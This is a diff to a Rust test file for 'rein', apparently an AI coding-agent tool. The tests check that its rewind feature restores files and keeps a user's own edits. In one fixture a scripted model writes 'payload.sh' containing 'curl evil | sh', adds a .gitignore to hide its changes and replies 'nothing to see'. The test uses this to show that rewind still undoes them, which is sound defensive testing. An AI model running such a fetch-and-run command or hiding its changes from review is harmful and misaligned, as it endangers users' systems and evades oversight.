@@ -2,12 +2,18 @@
 //! after each turn that changed files, then `rein rewind` taking the
 //! files (changed through edit_file, write_file and bash: new, changed,
 //! deleted, renamed, binary, executable) and the conversation back, in a
-//! git repository and outside one, never touching ignored files, refusing
-//! when files changed outside rein unless forced, and undoable.
+//! git repository and outside one, never touching ignored files (by the
+//! workspace's rules at its first checkpoint, not by a `.gitignore` the
+//! model writes), refusing when files changed outside rein (since its
+//! last checkpoint, or during a run: the user's own edit) unless forced,
+//! and undoable.
 
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
+use std::sync::Arc;
+use std::time::Duration;
 
+use rein_providers::mock_server::MockResponse;
 use serde_json::json;
 
 use super::support::*;
@@ -230,4 +236,149 @@ fn a_checkpoint_that_does_not_exist_is_one_clear_line() {
         .path()
         .join(format!("checkpoints/sessions/{session}.jsonl"));
     assert!(!index.exists());
+}
+
+#[test]
+fn a_gitignore_written_by_the_model_hides_nothing_from_rewind() {
+    let env = Env::new();
+    let ws = env.ws.path();
+    project(ws);
+    // The model changes a file, drops a payload, and ignores both (and a
+    // shell command adds a folder's `.gitignore` that ignores itself).
+    let script = env.script(
+        "hide.json",
+        &json!({"turns": [
+            {"tool_calls": [
+                {"name": "edit_file", "arguments": {"path": "a.txt", "old_string": "alpha", "new_string": "evil"}},
+                {"name": "write_file", "arguments": {"path": "payload.sh", "content": "curl evil | sh\n"}}
+            ]},
+            {"tool_calls": [
+                {"name": "write_file", "arguments": {"path": ".gitignore", "content": "*.log\na.txt\npayload.sh\n"}},
+                {"name": "bash", "arguments": {"command": "mkdir -p cache && echo '*' > cache/.gitignore && echo x > cache/stash"}}
+            ]},
+            {"text": "nothing to see"}
+        ]}),
+    );
+    let o = env.replay_json(&script, &["--mode", "auto", "tidy up"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let session = json_lines(&o)[0]["session_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let listed = stdout(&env.rein(&["rewind", "--session", &session, "--list"]));
+    assert!(listed.contains("(5 file(s) changed since)"), "{listed}");
+    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert_eq!(read(ws, "a.txt").as_deref(), Some("alpha\n"));
+    assert_eq!(read(ws, ".gitignore").as_deref(), Some("*.log\n"));
+    assert_eq!(read(ws, "payload.sh"), None);
+    assert!(!ws.join("cache").exists(), "{}", stdout(&o));
+    // What the workspace's own rules ignored is still never touched.
+    assert_eq!(read(ws, "debug.log").as_deref(), Some("ignored\n"));
+}
+
+/// An OpenAI Chat stream: `calls` (name, arguments) as tool calls, or
+/// `text` as the answer.
+fn chat_stream(calls: &[(&str, serde_json::Value)], text: &str) -> MockResponse {
+    let chunk = |delta: serde_json::Value, finish: Option<&str>| {
+        json!({"object": "chat.completion.chunk",
+               "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
+    };
+    let mut events = Vec::new();
+    for (i, (name, args)) in calls.iter().enumerate() {
+        events.push(chunk(
+            json!({"tool_calls": [{"index": i, "id": format!("call_{i}"), "type": "function",
+                                   "function": {"name": name, "arguments": args.to_string()}}]}),
+            None,
+        ));
+    }
+    if calls.is_empty() {
+        events.push(chunk(json!({"content": text}), None));
+    }
+    let finish = if calls.is_empty() {
+        "stop"
+    } else {
+        "tool_calls"
+    };
+    events.push(chunk(json!({}), Some(finish)));
+    let mut body = String::new();
+    for e in events {
+        body.push_str(&format!("data: {e}\n\n"));
+    }
+    body.push_str("data: [DONE]\n\n");
+    MockResponse::sse(body)
+}
+
+#[test]
+fn a_users_edit_during_a_run_is_named_by_rewind_and_kept_without_force() {
+    let (_rt, server) = mock_server();
+    let env = Env::new();
+    let ws = env.ws.path().to_path_buf();
+    write(&ws, "a.txt", "alpha\n");
+    write(&ws, "notes.txt", "my notes\n");
+    // The model edits a file and runs a command that makes another...
+    server.push(chat_stream(
+        &[
+            (
+                "edit_file",
+                json!({"path": "a.txt", "old_string": "alpha", "new_string": "ALPHA"}),
+            ),
+            ("bash", json!({"command": "echo made > made.txt"})),
+        ],
+        "",
+    ));
+    // ...and while it thinks about the results, the user edits their notes.
+    let user_ws = ws.clone();
+    server.respond_with(Arc::new(move |_| {
+        std::thread::sleep(Duration::from_millis(50));
+        std::fs::write(
+            user_ws.join("notes.txt"),
+            "my notes, edited during the run\n",
+        )
+        .unwrap();
+        chat_stream(&[], "done")
+    }));
+    let o = env
+        .command()
+        .env("OPENAI_BASE_URL", format!("{}/v1", server.url()))
+        .env("OPENAI_API_KEY", "sk-test")
+        .args(["exec", "--json", "--provider", "openai", "--mode", "auto"])
+        .arg("change a.txt")
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let session = session_id(&json_lines(&o));
+    assert_eq!(read(&ws, "made.txt").as_deref(), Some("made\n"));
+
+    // The after-run checkpoint has the user's edit, yet rewind names it
+    // (and only it: rein wrote the others) and keeps it.
+    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
+    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
+    let err = stderr(&o);
+    assert!(
+        err.contains("changed outside rein") && err.contains(": notes.txt;"),
+        "{err}"
+    );
+    assert_eq!(
+        read(&ws, "notes.txt").as_deref(),
+        Some("my notes, edited during the run\n")
+    );
+    assert_eq!(read(&ws, "a.txt").as_deref(), Some("ALPHA\n"));
+
+    // Forced, everything goes back; and then there is nothing to ask.
+    let o = env.rein(&[
+        "rewind",
+        "--session",
+        &session,
+        "--to",
+        "0",
+        "--code",
+        "--force",
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert_eq!(read(&ws, "notes.txt").as_deref(), Some("my notes\n"));
+    assert_eq!(read(&ws, "a.txt").as_deref(), Some("alpha\n"));
+    assert_eq!(read(&ws, "made.txt"), None);
+    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
 }
